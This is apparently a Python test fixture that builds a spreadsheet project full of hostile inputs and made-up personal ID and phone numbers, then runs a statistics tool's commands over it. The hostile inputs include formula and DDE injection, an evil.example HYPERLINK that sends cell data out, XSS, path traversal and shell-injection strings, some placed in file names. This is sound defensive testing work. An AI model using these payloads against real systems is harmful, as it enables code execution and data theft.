"""A project whose workbooks plant hostile texts and personal numbers wherever an office may write, and a run of all
commands over it."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import openpyxl
import xlwt

CONTROL = "\x1b]0;owned\x1b\\\x1b[31mred\x9b2J"
"""Sets a terminal's title, colours and clears it."""
BIDI = "\u202egnp.exe\u2066x\u200f"
FORMULAS = [
    "=cmd|'/C calc'!A0",
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "＝1+1＋cmd",
    '=HYPERLINK("http://evil.example/?"&A1,"点")',
]
MARKUP = [
    "<script>alert(1)</script>",
    "<img src=http://evil.example/x.png onerror=alert(1)>",
    "[点我](javascript:alert(1)) ![x](http://evil.example/x.png)",
    "{{ 7*191 }}{% raw %}",
    '&xxe; ]]> </w:t><w:fldSimple w:instr="DDEAUTO c calc"/>',
    "$\\frac{1}{$ [bold red]x[/] **粗** `code`",
    "_x001B_[31m_x003D_1",
]
PLACES = ["../../../../../../tmp/volstat-evil", "/etc/passwd", "C:\\Windows\\System32\\evil", "-rf"]
SHELL = ["$(touch pwned)", "`touch pwned`", "; touch pwned #", "' || touch pwned || '"]
EVIL = [*FORMULAS, *MARKUP, *PLACES, *SHELL, CONTROL, BIDI]
"""Texts that somebody may write where a name belongs."""


def identity(number: int) -> str:
    """Returns the identity number of the made-up person `number`, its check digit right."""
    digits = f"14040019900307{number:03d}"
    weights = (7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2)
    return digits + "10X98765432"[sum(int(d) * w for d, w in zip(digits, weights, strict=True)) % 11]


def phone(number: int) -> str:
    return f"1390355{number:04d}"


SOUND = [identity(n) for n in range(1, 26)]
WRONG = [identity(700)[:-1] + ("1" if identity(700)[-1] != "1" else "2"), "140400900307701", "14040019901399702X"]
"""A wrong check digit, an old number of fifteen digits, a day that does not exist."""
PHONES = [phone(n) for n in range(1, 26)]
IN_TEXT = {
    "title": (identity(801), phone(801)),
    "activity": (identity(802), phone(802)),
    "team": (identity(803), phone(803)),
    "note": (identity(804), phone(804)),
    "header": (identity(805), phone(805)),
    "sheet": (identity(806)[:], phone(806)),
    "file": (identity(807), phone(807)),
    "folder": (identity(808), phone(808)),
    "campaign": (identity(809), phone(809)),
    "station": (identity(810), phone(810)),
    "hours": (identity(811), phone(811)),
    "day": (identity(812), phone(812)),
    "township": (identity(813), phone(813)),
    "article": (identity(814), phone(814)),
}
"""Numbers written where no number belongs, each pair of its own."""
NUMBERS = [*SOUND, *WRONG, *PHONES, *(number for pair in IN_TEXT.values() for number in pair)]


def _said(place: str) -> str:
    return "某某{}电话{}".format(*IN_TEXT[place])


def _records(names: list[str], first: int = 1) -> list[list[Any]]:
    """Returns a table of records: each name is an activity, a team, a campaign and a category once."""
    head = [
        "姓名",
        "身份证号",
        "联系电话",
        "活动名称",
        "所属团队",
        "专项",
        "服务类别",
        "服务日期",
        "服务时长(小时)",
        "备注",
    ]
    rows = []
    for place, text in enumerate(names):
        person = [f"测试{place}", SOUND[place % len(SOUND)], PHONES[place % len(PHONES)]]
        labels = [names[(place + shift) % len(names)] for shift in range(4)]
        rows.append([*person, *labels, f"2020-{(place + first) % 12 + 1:02}-05", 2, text])
    return [head, *rows]


def _strays() -> list[list[Any]]:
    """Returns a table of records whose texts hold personal numbers."""
    head = [
        "姓名",
        "身份证号",
        "联系电话",
        "活动名称",
        "所属团队",
        "专项",
        "乡镇",
        "服务日期",
        "服务时长(小时)",
        "备注",
    ]
    sound = ["测试甲", SOUND[0], PHONES[0], "清扫", "红队", "创城", "东镇", "2020-06-01", 2, ""]
    changes: list[dict[int, Any]] = [
        {3: _said("activity")},
        {4: _said("team")},
        {5: _said("campaign")},
        {6: _said("township")},
        {7: _said("day")},
        {8: _said("hours")},
        {9: _said("note")},
        {1: WRONG[0]},
        {1: WRONG[1]},
        {1: WRONG[2], 2: PHONES[3]},
        {1: int(SOUND[4][:17]) * 10},
        {0: SOUND[5], 1: "测试乙"},
        {8: 99},
    ]
    rows = [[change.get(place, value) for place, value in enumerate(sound)] for change in changes]
    head_of_its_own = [*head, _said("header")]
    return [[f"沁县志愿服务记录 {_said('title')}"], head_of_its_own, *rows]


def _xlsx(sheets: dict[str, list[list[Any]]]) -> bytes:
    book = openpyxl.Workbook()
    book.remove(book.active)
    for name, rows in sheets.items():
        sheet = book.create_sheet()
        sheet.title = name
        for r, row in enumerate(rows, start=1):
            for c, value in enumerate(row, start=1):
                cell = sheet.cell(r, c)
                cell.value = value
                if isinstance(value, str):
                    cell.data_type = "s"  # a text that begins like a formula is a text
    made = io.BytesIO()
    book.save(made)
    return made.getvalue()


def _renamed(data: bytes, old: str, new: str) -> bytes:
    """Returns a package whose workbook part calls a sheet by a name that no program would give it."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(old.encode(), new.encode())
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return made.getvalue()


def _csv(rows: list[list[Any]]) -> bytes:
    made = io.StringIO()
    csv.writer(made).writerows(rows)
    return made.getvalue().encode()


def _xls(rows: list[list[Any]]) -> bytes:
    book = xlwt.Workbook(encoding="utf-8")
    sheet = book.add_sheet("活动")
    for r, row in enumerate(rows):
        for c, value in enumerate(row):
            sheet.write(r, c, value)
    made = io.BytesIO()
    book.save(made)
    return made.getvalue()


def make_project(root: Path) -> None:
    """Writes the project."""
    exports = root / "exports"
    (exports / "沁县" / "2020 $(touch pwned) ;&").mkdir(parents=True)
    (root / "volstat.toml").write_text(
        'city = "140400"\nunits = ["市直"]\n[report]\noffice = "=1+1<b>"\n[population]\n"2020" = { total = 1000 }\n',
        "utf-8",
    )
    printable = [text for text in EVIL if text not in (CONTROL,)]
    evil_sheet = "&lt;script&gt;=1+1|\u202e$(x)"
    records = _renamed(_xlsx({"沁县记录": _records(printable)}), "沁县记录", evil_sheet)
    (exports / "沁县" / "2020 $(touch pwned) ;&" / "-rf '沁县' <b>=cmd.xlsx").write_bytes(records)
    (exports / "沁县" / f"\x1b[31m沁县{BIDI}`touch pwned`.csv").write_bytes(_csv(_records(EVIL, 3)))
    (exports / "沁源县.csv").write_bytes(_csv(_records(EVIL, 5)))
    stations = [["站点名称", "站点类型", "成立日期"], *([text, "社区", "2019-01-01"] for text in printable)]
    (exports / "长子县站点.xlsx").write_bytes(_xlsx({"长子县": [*stations, [_said("station"), "景区", "2019-02-01"]]}))
    activities = [["活动名称", "主办队伍", "开展日期", "参与人次", "总时长"]]
    activities += [[text, text, f"2020-0{place % 9 + 1}-03", 3, 6] for place, text in enumerate(printable)]
    (exports / "武乡县活动.xls").write_bytes(_xls(activities))
    teams = [["队伍名称", "成立日期", "负责人电话"], *([text, "2019-01-01", PHONES[9]] for text in printable)]
    rows = "".join("<tr>" + "".join(f"<td>{_escaped(str(c))}</td>" for c in row) + "</tr>" for row in teams)
    (exports / "平顺县队伍.xls").write_bytes(f"<html><table>{rows}</table></html>".encode("gb18030"))
    strays = exports / "沁县" / _said("folder") / f"沁县{_said('file')}.xlsx"
    strays.parent.mkdir()
    strays.write_bytes(_xlsx({f"{IN_TEXT['sheet'][1]} {IN_TEXT['sheet'][0]}"[:31]: _strays()}))
    roster = [["姓名", "身份证号码", "手机", "注册时间", "状态"]]
    roster += [[f"测试{n}", SOUND[n], PHONES[n], "2019-05-01", "正常"] for n in range(25)]
    roster += [["测试错", WRONG[0], "", "2019-05-01", "正常"], ["测试错", "", "", "2019-05-01", "正常"]]
    (exports / "沁县名册.xlsx").write_bytes(_xlsx({"名册": roster}))
    (exports / "坏.xlsx").write_bytes(b"PK\x03\x04 and then nothing")
    article = f"2020年，全市志愿服务参与人次达99人次。{'；'.join(EVIL)}。请{_said('article')}。沁县开展志愿服务3次。"
    (root / "article.txt").write_text(article, "utf-8")
    (root / "article.html").write_text(f"<p>{_escaped(article)}</p>", "utf-8")


def _escaped(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;")


@dataclass(frozen=True)
class Done:
    """What one command printed."""

    arguments: list[str]
    code: int
    out: bytes
    err: bytes


@dataclass
class Everything:
    """The project after all commands have run over it."""

    root: Path
    done: dict[str, Done] = field(default_factory=dict)

    def run(self, name: str, *arguments: str, **environment: str) -> Done:
        command = [sys.executable, "-m", "volstat", "-C", ".", "--log", "log.jsonl", *arguments]
        kept = {k: v for k, v in os.environ.items() if not k.startswith(("LC_", "LANG", "TZ", "VOLSTAT"))}
        completed = subprocess.run(
            command,
            cwd=self.root,
            capture_output=True,
            stdin=subprocess.DEVNULL,
            env={**kept, **environment},
            umask=0o022,
        )
        self.done[name] = Done(list(arguments), completed.returncode, completed.stdout, completed.stderr)
        return self.done[name]

    def run_all(self) -> None:
        """Runs every command in most of its forms."""
        evil_file = next(path for path in (self.root / "exports" / "沁县").iterdir() if path.suffix == ".csv")
        stray = next((self.root / "exports").rglob("沁县某某*.xlsx"))
        plan: dict[str, list[str]] = {
            "figures": ["figures", "2020", "--by", "team"],
            "figures campaign": ["figures", "2020", "--by", "campaign"],
            "figures json": ["figures", "2020", "--by", "team", "--by", "category", "--json"],
            "figures csv": ["figures", "2020", "--by", "team", "--csv"],
            "problems": ["problems", "--severity", "info"],
            "problems json": ["problems", "--json"],
            "coverage": ["coverage", "2020"],
            "coverage json": ["coverage", "2020", "--json"],
            "trace": ["trace", "participations", "2020"],
            "trace json": ["trace", "participations", "2020", "--json"],
            "trace stations": ["trace", "stations", "2020"],
            "inspect": ["inspect", str(evil_file.relative_to(self.root))],
            "inspect json": ["inspect", str(stray.relative_to(self.root)), "--json"],
            "report": ["report", "2020", "--names", "--format", "xlsx,docx,html,md,txt,csv,json", "--out", "reports"],
            "report md": ["report", "2020", "--format", "md"],
            "publish": ["publish", "2020", "--format", "xlsx,docx,html,md,csv,json"],
            "compare": ["compare", "2020"],
            "returns": ["problems", "--returns", "returns"],
            "check": ["check", "article.txt", "--annotate", "annotated.html"],
            "check json": ["check", "article.html", "--json"],
            "where": ["figures", "2020", "--where", f"team={CONTROL}"],
            "no such file": ["inspect", f"{CONTROL}.xlsx"],
            "explain": ["explain", "participations"],
        }
        for name, arguments in plan.items():
            self.run(name, *arguments)

    @property
    def written(self) -> list[Path]:
        """Every file that volstat wrote."""
        own = ("volstat.toml", "article.txt", "article.html")
        files = (path for path in self.root.rglob("*") if path.is_file())
        return [p for p in files if p.relative_to(self.root).parts[0] not in ("exports", *own)]
